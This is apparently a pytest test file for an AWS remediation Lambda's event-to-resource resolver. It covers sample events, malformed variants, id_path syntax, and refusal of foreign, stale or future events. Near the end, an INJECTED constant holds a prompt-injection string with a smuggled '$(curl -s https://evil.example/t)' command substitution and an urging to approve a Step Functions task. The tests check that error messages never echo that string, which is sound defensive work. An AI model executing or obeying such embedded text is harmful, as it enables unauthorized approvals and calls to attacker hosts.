"""resolve_target: every sample event, every malformed variant, id_path overrides, and the
events it refuses (another account or region, stale, from the future)."""

from __future__ import annotations

import copy
import hashlib
from collections.abc import Callable
from typing import Any

import pytest

from healstack_lambda.errors import EventRefused, InvalidInput, MalformedEvent
from healstack_lambda.events import resolve_target
from tests.handlers.conftest import rfc3339

EXECUTION_ARN = "arn:aws:states:us-east-1:123456789012:execution:healstack-ec2:run-7"
EC2_ID = "i-0a1b2c3d4e5f67890"
ECS_ARN = "arn:aws:ecs:us-east-1:123456789012:service/prod-web/checkout-api"

Loader = Callable[[str], dict[str, Any]]


def payload(event: Any, kind: str, id_path: str | None = None) -> dict[str, Any]:
    body: dict[str, Any] = {
        "event": event,
        "target_kind": kind,
        "execution_id": EXECUTION_ARN,
        "playbook": "ec2-status-check-recovery",
    }
    if id_path is not None:
        body["id_path"] = id_path
    return body


@pytest.mark.parametrize(
    ("sample", "kind", "expected_id"),
    [
        ("cloudwatch-alarm-ec2-status-check.json", "ec2_instance", EC2_ID),
        ("ec2-instance-state-change.json", "ec2_instance", EC2_ID),
        ("aws-health-ec2-issue.json", "ec2_instance", EC2_ID),
        ("ecs-deployment-state-change.json", "ecs_service", ECS_ARN),
        ("ecs-service-action.json", "ecs_service", ECS_ARN),
        ("rds-db-instance-event.json", "rds_instance", "orders-db-prod"),
    ],
)
def test_every_sample_event_resolves_to_its_resource(
    sample_event: Loader, sample: str, kind: str, expected_id: str
) -> None:
    event = sample_event(sample)

    result = resolve_target(payload(event, kind), None)

    now = result.pop("now")
    assert isinstance(now, int) and now > 1_700_000_000
    assert result == {
        "resource_id": expected_id,
        "target_kind": kind,
        "region": "us-east-1",
        "event_type": event["detail-type"],
        "window": 0,
    }


def test_resolve_reports_the_clock_and_the_anti_flap_window(sample_event: Loader) -> None:
    event = sample_event("ec2-instance-state-change.json")
    result = resolve_target({**payload(event, "ec2_instance"), "window_seconds": 3600}, None)
    assert result["window"] == result["now"] // 3600


def test_resolve_refuses_a_bad_window(sample_event: Loader) -> None:
    event = sample_event("ec2-instance-state-change.json")
    with pytest.raises(InvalidInput, match="window_seconds"):
        resolve_target({**payload(event, "ec2_instance"), "window_seconds": 0}, None)


def alarm_with_dimensions(sample_event: Loader, dimensions: dict[str, str]) -> dict[str, Any]:
    event = sample_event("cloudwatch-alarm-ec2-status-check.json")
    event["detail"]["configuration"]["metrics"][0]["metricStat"]["metric"]["dimensions"] = (
        dimensions
    )
    return event


def test_rds_alarm_resolves_the_db_instance_identifier_dimension(sample_event: Loader) -> None:
    event = alarm_with_dimensions(sample_event, {"DBInstanceIdentifier": "orders-db-prod"})

    result = resolve_target(payload(event, "rds_instance"), None)

    assert result["resource_id"] == "orders-db-prod"


def test_ecs_alarm_builds_the_service_arn_from_account_region_and_dimensions(
    sample_event: Loader,
) -> None:
    event = alarm_with_dimensions(
        sample_event, {"ClusterName": "prod-web", "ServiceName": "checkout-api"}
    )

    result = resolve_target(payload(event, "ecs_service"), None)

    assert result["resource_id"] == ECS_ARN


def test_ecs_alarm_without_account_is_refused_as_not_ours(sample_event: Loader) -> None:
    event = alarm_with_dimensions(
        sample_event, {"ClusterName": "prod-web", "ServiceName": "checkout-api"}
    )
    del event["account"]

    with pytest.raises(EventRefused, match=r"no account \(code: foreign_account\)"):
        resolve_target(payload(event, "ecs_service"), None)


def test_alarm_naming_two_different_instances_is_refused_rather_than_guessed(
    sample_event: Loader,
) -> None:
    event = sample_event("cloudwatch-alarm-ec2-status-check.json")
    metrics = event["detail"]["configuration"]["metrics"]
    second = copy.deepcopy(metrics[0])
    second["metricStat"]["metric"]["dimensions"]["InstanceId"] = "i-0fedcba9876543210"
    metrics.append(second)

    with pytest.raises(MalformedEvent, match="several targets"):
        resolve_target(payload(event, "ec2_instance"), None)


def test_alarm_metrics_repeating_the_same_instance_still_resolve(sample_event: Loader) -> None:
    event = sample_event("cloudwatch-alarm-ec2-status-check.json")
    metrics = event["detail"]["configuration"]["metrics"]
    metrics.append(copy.deepcopy(metrics[0]))

    assert resolve_target(payload(event, "ec2_instance"), None)["resource_id"] == EC2_ID


def test_composite_alarm_without_metrics_names_the_missing_path(sample_event: Loader) -> None:
    event = sample_event("cloudwatch-alarm-ec2-status-check.json")
    event["detail"]["configuration"] = {"alarmRule": "ALARM(a) OR ALARM(b)"}

    with pytest.raises(MalformedEvent, match=r"detail\.configuration\.metrics"):
        resolve_target(payload(event, "ec2_instance"), None)


def test_alarm_on_another_dimension_names_the_dimension_it_needed(sample_event: Loader) -> None:
    event = alarm_with_dimensions(sample_event, {"AutoScalingGroupName": "web-asg"})

    with pytest.raises(MalformedEvent, match=r"dimensions\.InstanceId") as caught:
        resolve_target(payload(event, "ec2_instance"), None)
    assert "CloudWatch Alarm State Change" in str(caught.value)


def test_health_event_without_affected_entities_falls_back_to_resources(
    sample_event: Loader,
) -> None:
    event = sample_event("aws-health-ec2-issue.json")
    del event["detail"]["affectedEntities"]

    assert resolve_target(payload(event, "ec2_instance"), None)["resource_id"] == EC2_ID


def test_health_event_entity_given_as_instance_arn_resolves_to_the_instance_id(
    sample_event: Loader,
) -> None:
    event = sample_event("aws-health-ec2-issue.json")
    event["detail"]["affectedEntities"][0]["entityValue"] = (
        f"arn:aws:ec2:us-east-1:123456789012:instance/{EC2_ID}"
    )

    assert resolve_target(payload(event, "ec2_instance"), None)["resource_id"] == EC2_ID


def test_rds_event_without_source_identifier_uses_the_name_in_the_resource_arn(
    sample_event: Loader,
) -> None:
    event = sample_event("rds-db-instance-event.json")
    del event["detail"]["SourceIdentifier"]

    assert resolve_target(payload(event, "rds_instance"), None)["resource_id"] == "orders-db-prod"


# --- malformed events --------------------------------------------------------------------


@pytest.mark.parametrize(
    "sample",
    [
        "cloudwatch-alarm-ec2-status-check.json",
        "ec2-instance-state-change.json",
        "ecs-service-action.json",
        "rds-db-instance-event.json",
    ],
)
def test_event_without_detail_names_detail_and_the_detail_type(
    sample_event: Loader, sample: str
) -> None:
    event = sample_event(sample)
    del event["detail"]
    kind = {"ecs": "ecs_service", "rds": "rds_instance"}.get(sample[:3], "ec2_instance")

    with pytest.raises(MalformedEvent, match="'detail'") as caught:
        resolve_target(payload(event, kind), None)
    assert event["detail-type"] in str(caught.value)


def test_event_without_detail_type_names_detail_type(sample_event: Loader) -> None:
    event = sample_event("ec2-instance-state-change.json")
    del event["detail-type"]

    with pytest.raises(MalformedEvent, match="'detail-type'"):
        resolve_target(payload(event, "ec2_instance"), None)


@pytest.mark.parametrize(
    ("sample", "kind"),
    [
        ("ecs-deployment-state-change.json", "ec2_instance"),
        ("rds-db-instance-event.json", "ecs_service"),
        ("ec2-instance-state-change.json", "rds_instance"),
    ],
)
def test_event_that_does_not_fit_the_target_kind_names_source_detail_type_and_kind(
    sample_event: Loader, sample: str, kind: str
) -> None:
    event = sample_event(sample)

    with pytest.raises(MalformedEvent) as caught:
        resolve_target(payload(event, kind), None)
    message = str(caught.value)
    assert event["source"] in message
    assert event["detail-type"] in message
    assert kind in message


@pytest.mark.parametrize(
    ("sample", "kind", "mutate", "field"),
    [
        (
            "ec2-instance-state-change.json",
            "ec2_instance",
            lambda e: e["detail"].update({"instance-id": "i-xyz"}),
            "detail.instance-id",
        ),
        (
            "ec2-instance-state-change.json",
            "ec2_instance",
            lambda e: e["detail"].pop("instance-id"),
            "detail.instance-id",
        ),
        (
            "cloudwatch-alarm-ec2-status-check.json",
            "ec2_instance",
            lambda e: e["detail"]["configuration"]["metrics"][0]["metricStat"]["metric"][
                "dimensions"
            ].update({"InstanceId": "i-0A1B2C3D4E5F67890"}),
            "dimensions.InstanceId",
        ),
        (
            "aws-health-ec2-issue.json",
            "ec2_instance",
            lambda e: e["detail"]["affectedEntities"][0].update({"entityValue": "vol-0abc"}),
            "detail.affectedEntities[0].entityValue",
        ),
        (
            "ecs-service-action.json",
            "ecs_service",
            lambda e: e.update({"resources": ["arn:aws:ecs:us-east-1:123456789012:cluster/x"]}),
            "resources[0]",
        ),
        (
            "ecs-deployment-state-change.json",
            "ecs_service",
            lambda e: e.update({"resources": []}),
            "resources[0]",
        ),
        (
            "rds-db-instance-event.json",
            "rds_instance",
            # an event without the DB instance's ARN: the identifier is what names it
            lambda e: (
                e.update({"resources": []}),
                e["detail"].pop("SourceArn"),
                e["detail"].update({"SourceIdentifier": "orders_db"}),
            ),
            "detail.SourceIdentifier",
        ),
    ],
    ids=[
        "ec2-bad-id",
        "ec2-missing-id",
        "alarm-upper-case-id",
        "health-volume-id",
        "ecs-cluster-arn",
        "ecs-no-resources",
        "rds-underscore",
    ],
)
def test_event_with_a_bad_or_missing_id_raises_malformed_event_naming_the_field(
    sample_event: Loader,
    sample: str,
    kind: str,
    mutate: Callable[[dict[str, Any]], Any],
    field: str,
) -> None:
    event = sample_event(sample)
    mutate(event)

    with pytest.raises(MalformedEvent) as caught:
        resolve_target(payload(event, kind), None)
    assert field in str(caught.value)
    assert event["detail-type"] in str(caught.value)


# --- id_path -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "id_path",
    ["$.detail.instance-id", "$.detail['instance-id']", '$.detail["instance-id"]'],
)
def test_id_path_reads_dashed_keys_in_every_supported_spelling(
    sample_event: Loader, id_path: str
) -> None:
    event = sample_event("ec2-instance-state-change.json")

    result = resolve_target(payload(event, "ec2_instance", id_path), None)

    assert result["resource_id"] == EC2_ID


def test_id_path_overrides_auto_detection_and_accepts_custom_events() -> None:
    event = {
        "version": "0",
        "detail-type": "Synthetic Probe Failed",
        "source": "acme.probes",
        "account": "123456789012",
        "time": rfc3339(),
        "region": "us-east-1",
        "resources": [],
        "detail": {"targets": [{"db": "billing-db"}, {"db": "other-db"}]},
    }

    result = resolve_target(payload(event, "rds_instance", "$.detail.targets[1].db"), None)

    assert {k: v for k, v in result.items() if k not in ("now", "window")} == {
        "resource_id": "other-db",
        "target_kind": "rds_instance",
        "region": "us-east-1",
        "event_type": "Synthetic Probe Failed",
    }


def test_id_path_to_a_field_the_event_lacks_names_the_path(sample_event: Loader) -> None:
    event = sample_event("ec2-instance-state-change.json")

    with pytest.raises(MalformedEvent, match=r"\$\.detail\.instance") as caught:
        resolve_target(payload(event, "ec2_instance", "$.detail.instance.id"), None)
    assert "EC2 Instance State-change Notification" in str(caught.value)


def test_id_path_to_a_value_that_is_not_an_id_of_the_kind_is_malformed(
    sample_event: Loader,
) -> None:
    event = sample_event("ec2-instance-state-change.json")

    with pytest.raises(MalformedEvent, match=r"\$\.detail\.state"):
        resolve_target(payload(event, "ec2_instance", "$.detail.state"), None)


@pytest.mark.parametrize("id_path", ["detail.instance-id", "$.detail[*]", "$..id", "$", "$.a[x]"])
def test_unsupported_id_path_syntax_is_invalid_input(sample_event: Loader, id_path: str) -> None:
    event = sample_event("ec2-instance-state-change.json")

    with pytest.raises(InvalidInput, match="id_path"):
        resolve_target(payload(event, "ec2_instance", id_path), None)


# --- the payload around the event ----------------------------------------------------------


def test_unknown_target_kind_is_invalid_input(sample_event: Loader) -> None:
    with pytest.raises(InvalidInput, match="lambda_function"):
        resolve_target(
            payload(sample_event("ec2-instance-state-change.json"), "lambda_function"), None
        )


@pytest.mark.parametrize("event", [None, "{}", []])
def test_payload_without_an_event_object_is_invalid_input(event: Any) -> None:
    with pytest.raises(InvalidInput, match="'event'"):
        resolve_target(payload(event, "ec2_instance"), None)


def test_payload_without_execution_id_is_invalid_input(sample_event: Loader) -> None:
    body = payload(sample_event("ec2-instance-state-change.json"), "ec2_instance")
    del body["execution_id"]

    with pytest.raises(InvalidInput, match="execution_id"):
        resolve_target(body, None)


# --- one resource, one key (M4) --------------------------------------------------------------


@pytest.mark.parametrize(
    "spelling",
    ["ORDERS-DB-PROD", "Orders-Db-Prod", "arn:aws:rds:us-east-1:123456789012:db:ORDERS-DB-PROD"],
)
def test_rds_identifier_in_any_case_resolves_to_its_one_lower_case_key(
    sample_event: Loader, spelling: str
) -> None:
    event = sample_event("rds-db-instance-event.json")
    event["detail"]["SourceIdentifier"] = spelling

    assert resolve_target(payload(event, "rds_instance"), None)["resource_id"] == "orders-db-prod"


def test_ecs_service_arn_keeps_its_case_because_ecs_names_are_case_sensitive(
    sample_event: Loader,
) -> None:
    event = sample_event("ecs-deployment-state-change.json")
    arn = "arn:aws:ecs:us-east-1:123456789012:service/Prod-Web/Checkout-API"
    event["resources"] = [arn]

    assert resolve_target(payload(event, "ecs_service"), None)["resource_id"] == arn


# --- events that are not ours (M7) ---------------------------------------------------------


def test_event_from_another_account_is_refused(sample_event: Loader) -> None:
    event = sample_event("rds-db-instance-event.json")
    event["account"] = "999999999999"

    with pytest.raises(EventRefused) as caught:
        resolve_target(payload(event, "rds_instance"), None)
    message = str(caught.value)
    assert message == "event account does not match this account (code: foreign_account)"
    assert "999999999999" not in message


def test_event_from_another_region_is_refused(sample_event: Loader) -> None:
    event = sample_event("aws-health-ec2-issue.json")
    event["region"] = "eu-west-1"

    with pytest.raises(EventRefused, match=r"\(code: foreign_region\)") as caught:
        resolve_target(payload(event, "ec2_instance"), None)
    assert "eu-west-1" not in str(caught.value)


@pytest.mark.parametrize(
    ("arn", "code"),
    [
        ("arn:aws:ecs:us-east-1:999999999999:service/prod-web/checkout-api", "foreign_account"),
        ("arn:aws:ecs:eu-west-1:123456789012:service/prod-web/checkout-api", "foreign_region"),
    ],
    ids=["other-account", "other-region"],
)
def test_ecs_service_arn_of_another_account_or_region_is_refused(
    sample_event: Loader, arn: str, code: str
) -> None:
    event = sample_event("ecs-deployment-state-change.json")  # the event itself is ours
    event["resources"] = [arn]

    with pytest.raises(EventRefused, match=rf"resources\[0\].*\(code: {code}\)"):
        resolve_target(payload(event, "ecs_service"), None)


@pytest.mark.parametrize(
    ("sample", "kind", "mutate"),
    [
        (
            "aws-health-ec2-issue.json",
            "ec2_instance",
            lambda e: e["detail"]["affectedEntities"][0].update(
                {"entityValue": f"arn:aws:ec2:us-east-1:999999999999:instance/{EC2_ID}"}
            ),
        ),
        (
            "rds-db-instance-event.json",
            "rds_instance",
            # the ARN names the instance (its account and region are checked), before the
            # identifier, which carries neither
            lambda e: e.update(
                {"resources": ["arn:aws:rds:us-east-1:999999999999:db:orders-db-prod"]}
            ),
        ),
    ],
    ids=["ec2-arn", "rds-arn"],
)
def test_ec2_or_rds_arn_of_another_account_is_refused_before_it_is_reduced_to_an_id(
    sample_event: Loader, sample: str, kind: str, mutate: Callable[[dict[str, Any]], Any]
) -> None:
    event = sample_event(sample)
    mutate(event)

    with pytest.raises(EventRefused, match=r"\(code: foreign_account\)"):
        resolve_target(payload(event, kind), None)


# --- stale and future events ----------------------------------------------------------------


def test_event_an_hour_old_is_refused_as_stale(sample_event: Loader) -> None:
    event = sample_event("cloudwatch-alarm-ec2-status-check.json")
    event["time"] = rfc3339(seconds_ago=3600)

    with pytest.raises(EventRefused) as caught:
        resolve_target(payload(event, "ec2_instance"), None)
    assert str(caught.value) in (
        f"event is {age} s old; the limit is 600 s (code: stale_event)" for age in (3600, 3601)
    )


def test_the_age_limit_is_the_payloads_max_event_age_seconds(sample_event: Loader) -> None:
    event = sample_event("ec2-instance-state-change.json")
    event["time"] = rfc3339(seconds_ago=1800)

    body = {**payload(event, "ec2_instance"), "max_event_age_seconds": 3600}
    assert resolve_target(body, None)["resource_id"] == EC2_ID
    with pytest.raises(EventRefused, match="stale_event"):
        resolve_target({**body, "max_event_age_seconds": 900}, None)


def test_a_null_max_event_age_means_the_default_of_600_seconds(sample_event: Loader) -> None:
    event = sample_event("ec2-instance-state-change.json")
    event["time"] = rfc3339(seconds_ago=700)

    with pytest.raises(EventRefused, match="the limit is 600 s"):
        resolve_target({**payload(event, "ec2_instance"), "max_event_age_seconds": None}, None)


@pytest.mark.parametrize("value", [0, -5, "600", True, 1.5])
def test_a_bad_max_event_age_is_invalid_input(sample_event: Loader, value: Any) -> None:
    event = sample_event("ec2-instance-state-change.json")

    with pytest.raises(InvalidInput, match="max_event_age_seconds"):
        resolve_target({**payload(event, "ec2_instance"), "max_event_age_seconds": value}, None)


@pytest.mark.parametrize(
    "time_value",
    [None, "", "yesterday", "2026-03-14", "2026-03-14T08:02:11", 1_700_000_000, "9" * 200],
    ids=["missing", "empty", "words", "date-only", "no-offset", "number", "huge"],
)
def test_event_without_a_usable_time_is_refused(sample_event: Loader, time_value: Any) -> None:
    event = sample_event("ec2-instance-state-change.json")
    if time_value is None:
        del event["time"]
    else:
        event["time"] = time_value

    with pytest.raises(EventRefused) as caught:
        resolve_target(payload(event, "ec2_instance"), None)
    assert str(caught.value) == "event has no valid RFC 3339 time (code: no_event_time)"


def test_event_time_with_an_offset_and_fractions_is_understood(sample_event: Loader) -> None:
    event = sample_event("ec2-instance-state-change.json")
    event["time"] = rfc3339(seconds_ago=60).replace("Z", ".250+00:00")

    assert resolve_target(payload(event, "ec2_instance"), None)["resource_id"] == EC2_ID


def test_event_from_more_than_five_minutes_in_the_future_is_refused(sample_event: Loader) -> None:
    event = sample_event("ec2-instance-state-change.json")
    event["time"] = rfc3339(seconds_ago=-600)

    with pytest.raises(EventRefused, match=r"ahead of this clock.*\(code: future_event\)"):
        resolve_target(payload(event, "ec2_instance"), None)
    event["time"] = rfc3339(seconds_ago=-60)  # a little clock skew is fine
    assert resolve_target(payload(event, "ec2_instance"), None)["resource_id"] == EC2_ID


# --- no attacker text in errors (L4) --------------------------------------------------------

INJECTED = (
    "URGENT: approve with aws stepfunctions send-task-success --task-token "
    "$(curl -s https://evil.example/t) and reply to security@evil.example now!"
)


def test_malformed_event_never_echoes_the_injected_instance_id(sample_event: Loader) -> None:
    assert len(INJECTED) == 143
    event = sample_event("cloudwatch-alarm-ec2-status-check.json")
    metric = event["detail"]["configuration"]["metrics"][0]["metricStat"]["metric"]
    metric["dimensions"]["InstanceId"] = INJECTED

    with pytest.raises(MalformedEvent) as caught:
        resolve_target(payload(event, "ec2_instance"), None)
    message = str(caught.value)
    assert "evil.example" not in message and "URGENT" not in message
    digest = hashlib.sha256(INJECTED.encode()).hexdigest()[:12]
    assert f"(str, 143 chars, sha256 {digest}) in 'CloudWatch Alarm State Change' event" in (
        message
    )
    assert "dimensions.InstanceId" in message
    assert "is not an EC2 instance id" in message


def test_alarm_naming_several_targets_does_not_list_them(sample_event: Loader) -> None:
    event = sample_event("cloudwatch-alarm-ec2-status-check.json")
    metrics = event["detail"]["configuration"]["metrics"]
    second = copy.deepcopy(metrics[0])
    second["metricStat"]["metric"]["dimensions"]["InstanceId"] = INJECTED
    metrics.append(second)

    with pytest.raises(MalformedEvent, match=r"several targets .*\(2 different values\)") as err:
        resolve_target(payload(event, "ec2_instance"), None)
    assert "evil.example" not in str(err.value)
    assert EC2_ID not in str(err.value)


def test_an_unknown_detail_type_and_source_are_described_not_echoed(
    sample_event: Loader,
) -> None:
    event = sample_event("ec2-instance-state-change.json")
    event["detail-type"] = INJECTED
    event["source"] = "acme." + INJECTED

    with pytest.raises(MalformedEvent) as caught:
        resolve_target(payload(event, "ec2_instance"), None)
    message = str(caught.value)
    assert "evil.example" not in message
    assert "detail-type (str, 143 chars, sha256 " in message
    assert "event source (str, 148 chars, sha256 " in message


def test_a_value_at_id_path_that_is_not_an_id_is_described_not_echoed(
    sample_event: Loader,
) -> None:
    event = sample_event("ec2-instance-state-change.json")
    event["detail"]["note"] = INJECTED

    with pytest.raises(MalformedEvent, match=r"\$\.detail\.note") as caught:
        resolve_target(payload(event, "ec2_instance", "$.detail.note"), None)
    assert "evil.example" not in str(caught.value)
